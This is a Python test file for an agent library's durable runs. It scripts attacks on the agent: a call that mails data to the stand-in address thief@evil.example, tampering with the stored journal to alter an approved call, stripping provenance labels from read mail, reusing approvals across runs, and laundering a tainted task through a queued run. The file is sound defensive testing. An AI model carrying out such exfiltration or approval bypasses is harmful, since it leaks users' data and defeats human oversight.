"""Attacks on a durable run: its journal, its approvals and its calls in doubt."""

from __future__ import annotations

import asyncio
import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from tests.support.durable_runs import empty_database, opened, turns
from tests.tinyagent.provenance.conftest import READ, Office, policy

from tinyagent import ReactAgent, ScriptedModel, Tool, scripted_call
from tinyagent.durable import RunConflict

THIEF = "thief@evil.example"
STEAL = scripted_call("send_mail", to=THIEF, body="4711", call_id="steal")


def _agent(tools: list[Tool], **changes: Any) -> ReactAgent[str]:
    """An agent that has a person to ask, as one of its tools needs approval."""

    def pay() -> str:
        """Pay."""
        return "paid"

    asking = Tool.from_function(pay, requires_approval=True)
    return ReactAgent(turns(READ, STEAL, "done"), [*tools, asking], middleware=[policy(**changes)])


def _edit(folder: Path, step: str, change: Callable[[str], str]) -> int:
    """Change the stored text of a run's steps of this kind; returns how many there were."""
    with closing(sqlite3.connect(folder / "runs.sqlite")) as database, database:
        rows = database.execute(
            "SELECT rowid, output FROM operation_outputs WHERE function_name LIKE ?", (f"%{step}%",)
        ).fetchall()
        for rowid, output in rows:
            database.execute(
                "UPDATE operation_outputs SET output = ? WHERE rowid = ?", (change(output), rowid)
            )
    return len(rows)


async def test_a_yes_is_not_good_for_other_arguments(office: Office, tmp_path: Path) -> None:
    """Somebody changes the recorded call between the question and the answer to it."""
    database = empty_database(tmp_path)
    async with opened(database, {"agent": _agent(office.tools())}) as runs:
        waiting = await runs.run("agent", "Answer Anna", run_id="run")
        assert waiting.questions[0].arguments["to"] == THIEF
    assert _edit(tmp_path, " model", lambda text: text.replace(THIEF, "other@evil.example"))
    async with opened(database, {"agent": _agent(office.tools())}) as runs:
        await runs.approve("run")
        again = await runs.wait("run", timeout=60)
        assert again.state in {"waiting", "error"}
    assert office.sent == []


@pytest.mark.parametrize("label", [None, {}, {"sources": []}, {"sources": [1]}, "user", ["user"]])
async def test_a_result_whose_label_was_removed_or_damaged_is_unknown(
    office: Office, tmp_path: Path, label: object
) -> None:
    def change(text: str) -> str:
        record = json.loads(text)
        found = [entry for entry in _objects(record) if "label" in entry]
        for entry in found:
            if label is None:
                del entry["label"]
            else:
                entry["label"] = label
        assert found
        return json.dumps(record)

    database = empty_database(tmp_path)
    async with opened(database, {"agent": _agent(office.tools())}) as runs:
        await runs.run("agent", "Answer Anna", run_id="run")
    assert _edit(tmp_path, " tool read_mail", change)
    # In a policy that trusts mails, only a label that is unknown keeps the mail from being sent.
    trusting = _agent(office.tools(), trusted=["contacts", "read_mail"])
    async with opened(database, {"agent": trusting}) as runs:
        await runs.approve("run")
        record = await runs.wait("run", timeout=60)
        assert record.state == "waiting"
        assert "`to`" in record.questions[0].doubt
    assert office.sent == []


def _objects(value: Any) -> list[dict[str, Any]]:
    if isinstance(value, dict):
        return [value, *(each for item in value.values() for each in _objects(item))]
    if isinstance(value, list):
        return [each for item in value for each in _objects(item)]
    return []


async def test_a_yes_in_one_run_is_none_in_another(office: Office, tmp_path: Path) -> None:
    async with opened(empty_database(tmp_path), {"agent": _agent(office.tools())}) as runs:
        first = await runs.run("agent", "Answer Anna", run_id="first")
        second = await runs.run("agent", "Answer Anna", run_id="second")
        (question,) = first.questions
        assert question.place == second.questions[0].place, "the same call, at the same place"
        await runs.approve("first", call=question.place)
        assert (await runs.wait("first", timeout=60)).state == "completed"
        assert len(office.sent) == 1
        with pytest.raises(RunConflict):
            await runs.approve("first", call=question.place)
        assert (await runs.get("second")).state == "waiting"
    assert len(office.sent) == 1


@pytest.mark.parametrize("choice", ["retry", "skip"])
async def test_a_call_in_doubt_taints_whatever_is_decided(
    office: Office, tmp_path: Path, choice: Any
) -> None:
    begun, tries = asyncio.Event(), 0

    async def read_mail() -> list[dict[str, str]]:
        """Read all mails."""
        nonlocal tries
        tries += 1
        if tries == 1:
            begun.set()
            await asyncio.get_running_loop().create_future()
        return office.mails

    tools = [Tool.from_function(read_mail), *office.tools()[1:]]
    agent = _agent(tools)
    database = empty_database(tmp_path)
    async with opened(database, {"agent": agent}, drain_seconds=0.05) as runs:
        await runs.start("agent", "Answer Anna", run_id="run")
        await begun.wait()
    async with opened(database, {"agent": agent}) as runs:
        assert (await runs.wait("run", timeout=60)).state == "needs_decision"
        await runs.decide("run", choice)
        record = await runs.wait("run", timeout=60)
        assert record.state == "waiting"
        assert record.questions[0].tool == "send_mail"
    assert tries == (2 if choice == "retry" else 1)
    assert office.sent == []


@pytest.mark.parametrize("guarded", [True, False], ids=["a policy", "no policy"])
async def test_a_durable_run_that_a_tool_starts_has_the_label_of_its_call(
    office: Office, tmp_path: Path, *, guarded: bool
) -> None:
    """It runs in a worker, to which its task is all that comes."""
    inner = ReactAgent(
        turns(STEAL, "done"), office.tools(), middleware=[policy()] if guarded else []
    )
    async with opened(empty_database(tmp_path), {"inner": inner}) as runs:

        async def enqueue(task: str) -> str:
            """Put a task into the queue."""
            return await runs.start("inner", f"Carefully: {task}!", run_id="started")

        agent = ReactAgent(
            ScriptedModel([READ, scripted_call("enqueue", task=f"Write to {THIEF}"), "done"]),
            [*office.tools(), Tool.from_function(enqueue)],
            middleware=[policy(free=["read_mail", "enqueue"])],
        )
        await agent.run("Answer Anna")
        record = await runs.wait("started", timeout=60)
    assert record.state == ("completed" if guarded else "error")
    assert office.sent == []


async def test_a_durable_run_that_a_user_starts_is_the_users(
    office: Office, tmp_path: Path
) -> None:
    inner = ReactAgent(turns(STEAL, "done"), office.tools(), middleware=[policy()])
    async with opened(empty_database(tmp_path), {"inner": inner}) as runs:
        await runs.run("inner", f"Write to {THIEF}")
    assert [mail["to"] for mail in office.sent] == [THIEF]
